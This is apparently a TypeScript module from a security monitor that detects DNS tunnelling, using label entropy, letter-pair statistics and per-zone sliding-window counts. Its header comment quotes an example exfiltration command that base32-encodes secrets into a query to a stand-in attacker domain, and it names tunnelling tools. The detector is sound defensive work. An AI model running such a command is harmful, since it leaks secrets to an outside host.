/**
 * DNS tunnelling: data carried out in the query names themselves, as long
 * random-looking labels under one zone (iodine, dnscat2, exfiltration by
 * `dig $(base32 secrets).t.evil.com`). A name is scored on its own; the zone is
 * flagged when it collects several encoded names, or very many distinct
 * subdomains, within a window. Pure: state lives in a TunnelTracker the caller
 * owns.
 */
import type { DnsEvent } from '../protocol/index.js';
import type { Finding, ProcessFacts } from './detection.js';

/** Labels shorter than this are never judged encoded: hashes this short are common in CDN names. */
export const MIN_ENCODED_LABEL = 20;
const VOWELS = new Set(['a', 'e', 'i', 'o', 'u', 'y']);

/** Shannon entropy of a string's characters, in bits per character. */
export function shannonEntropy(text: string): number {
  if (text.length === 0) return 0;
  const counts = new Map<string, number>();
  for (const ch of text) counts.set(ch, (counts.get(ch) ?? 0) + 1);
  let bits = 0;
  for (const count of counts.values()) {
    const p = count / text.length;
    bits -= p * Math.log2(p);
  }
  return bits;
}

/** The longest run of characters that are neither vowels nor separators: words have short ones, encodings long ones. */
export function longestConsonantRun(label: string): number {
  let longest = 0;
  let run = 0;
  for (const ch of label.toLowerCase()) {
    if (VOWELS.has(ch) || ch === '-' || ch === '_') run = 0;
    else longest = Math.max(longest, (run += 1));
  }
  return longest;
}

/** Letter pairs frequent in English and in the words product and host names are made of. */
const COMMON_BIGRAMS = new Set(
  (
    'th he in er an re on at en nd ti es or te of ed is it al ar st to nt ng se ha as ou io le ve co me de hi ri ro ic ne ea ra ce li ' +
    'ch ll be ma si om ur ca el ta la ns di fo ho pe ec pr no ct us ac ot il tr ly nc et ut ss so rs un lo wa ge ie wh ee wi em ad ol ' +
    'rt po we na ul ni ts mo ow pa im mi ai sh ir su id os iv ia am fi ci vi pl ig tu ev ld ry mp fe bl ab gh ty op wo sa ay ex ke fr ' +
    'oo av ag if ap gr od bo sp rd do uc bu ei ov by rm ep tt oc fa ef cu rn sc gi da yo cr cl du ga qu ue ff ba ey ls va um pp ua up ' +
    'lu go ht ru ug ds lt pi rc rr eg au ck ew mu br bi pt ak pu ui rg ib tl ny ki rk ys ob mm fu ph og ms ye ud mb ip ub oi rl gu dr ' +
    'hr cc tw ft wn nu af hu nn eo vo rv nf xp gn sm fl iz ok nl my gl aw ju oa eq sy sl ps jo lf nv je nk kn gs dy hy ze ks xt bj ' +
    'ub hu ka az zo ya ku ko ja ji nj'
  ).split(' '),
);

/** The share of a label's adjacent character pairs that are common letter pairs (digits and separators break words). */
export function commonBigramShare(label: string): number {
  const l = label.toLowerCase();
  let pairs = 0;
  let common = 0;
  for (let i = 0; i + 1 < l.length; i++) {
    const pair = l.slice(i, i + 2);
    if (pair.includes('-') || pair.includes('_')) continue;
    pairs += 1;
    if (COMMON_BIGRAMS.has(pair)) common += 1;
  }
  return pairs === 0 ? 1 : common / pairs;
}

/**
 * Whether one label looks like encoded data rather than a word, a product name
 * or a short hash: long, dense in information, and not made of word-like
 * letter pairs.
 */
export function labelLooksEncoded(label: string): boolean {
  const l = label.toLowerCase();
  if (l.length < MIN_ENCODED_LABEL) return false;
  if (l.startsWith('xn--')) return false; // punycode of a real word
  const entropy = shannonEntropy(l);
  if (/^[0-9a-f]+$/.test(l)) return l.length >= 32 && entropy >= 3.2; // a hex blob the size of a hash or larger
  return entropy >= 3.4 && (commonBigramShare(l) < 0.6 || longestConsonantRun(l) >= 8);
}

export function nameLooksEncoded(name: string): boolean {
  return name.split('.').some(labelLooksEncoded);
}

/** Second-level labels under which registrations sit one level deeper (`example.co.uk`). */
const SECOND_LEVEL_SUFFIXES = new Set(['co', 'com', 'net', 'org', 'gov', 'edu', 'ac', 'or', 'ne', 'go', 'gv', 'mil']);

/** The registrable domain a name belongs to (approximate public-suffix rule: the last two labels, three under `co.uk`-style suffixes). */
export function zoneOf(name: string): string {
  const labels = name.toLowerCase().replace(/\.$/, '').split('.').filter((l) => l !== '');
  if (labels.length <= 2) return labels.join('.');
  const second = labels[labels.length - 2] ?? '';
  const top = labels[labels.length - 1] ?? '';
  const keep = top.length === 2 && SECOND_LEVEL_SUFFIXES.has(second) ? 3 : 2;
  return labels.slice(-keep).join('.');
}

export interface TunnelThresholds {
  /** Distinct encoded-looking names in one zone that make a tunnel. */
  readonly encodedNames: number;
  /** Distinct subdomains of one zone that make a tunnel even when each looks harmless. */
  readonly uniqueNames: number;
  /** How far back names count. */
  readonly windowMs: number;
  /** Zones tracked at once (the oldest is forgotten beyond this): bounds memory. */
  readonly maxZones: number;
}

export const DEFAULT_TUNNEL_THRESHOLDS: TunnelThresholds = Object.freeze({ encodedNames: 5, uniqueNames: 150, windowMs: 10 * 60_000, maxZones: 2048 });

interface ZoneState {
  /** Distinct names and when each was first seen, oldest first. */
  readonly names: Map<string, { time: number; encoded: boolean }>;
  encoded: number;
  flagged: boolean;
}

/** Counts distinct names per zone in a sliding window; says once per zone when it looks like a tunnel. */
export class TunnelTracker {
  readonly #zones = new Map<string, ZoneState>();

  constructor(private readonly thresholds: TunnelThresholds = DEFAULT_TUNNEL_THRESHOLDS) {}

  /** Feeds one queried name; returns the finding the first time its zone crosses a threshold. */
  observe(event: DnsEvent, process: ProcessFacts | undefined): Finding | null {
    // Names answered locally never left the machine: nothing was tunnelled (block mode keeps it so).
    if (event.verdict !== 'audit' && event.verdict !== 'allowed') return null;
    const name = event.name.toLowerCase().replace(/\.$/, '');
    const zone = zoneOf(name);
    if (zone === name) return null;
    const now = Date.parse(event.time);
    const time = Number.isFinite(now) ? now : 0;
    let state = this.#zones.get(zone);
    if (!state) {
      state = { names: new Map(), encoded: 0, flagged: false };
      if (this.#zones.size >= this.thresholds.maxZones) {
        const oldest = this.#zones.keys().next().value;
        if (oldest !== undefined) this.#zones.delete(oldest);
      }
      this.#zones.set(zone, state);
    }
    if (state.flagged) return null;
    this.#expire(state, time);
    if (!state.names.has(name)) {
      const encoded = nameLooksEncoded(name.slice(0, name.length - zone.length));
      state.names.set(name, { time, encoded });
      if (encoded) state.encoded += 1;
    }
    const byEncoding = state.encoded >= this.thresholds.encodedNames;
    const byCount = state.names.size >= this.thresholds.uniqueNames;
    if (!byEncoding && !byCount) return null;
    state.flagged = true;
    const samples = [...state.names.entries()].filter(([, v]) => v.encoded || !byEncoding).slice(-5).map(([n]) => n);
    const longest = Math.max(...[...state.names.keys()].map((n) => n.length));
    const finding: Finding = {
      id: 'dns-tunnelling',
      time: event.time,
      process,
      step: event.step,
      title: `DNS queries look like data tunnelled out through ${zone}`,
      evidence: {
        zone,
        uniqueNames: state.names.size,
        encodedNames: state.encoded,
        longestName: longest,
        samples,
        reason: byEncoding ? `${state.encoded} distinct names with long random-looking labels` : `${state.names.size} distinct subdomains`,
        verdict: event.verdict,
      },
    };
    state.names.clear(); // flagged once: the names are no longer needed
    return finding;
  }

  #expire(state: ZoneState, now: number): void {
    for (const [name, seen] of state.names) {
      if (now - seen.time <= this.thresholds.windowMs) break; // oldest first: the rest are newer
      state.names.delete(name);
      if (seen.encoded) state.encoded -= 1;
    }
  }
}
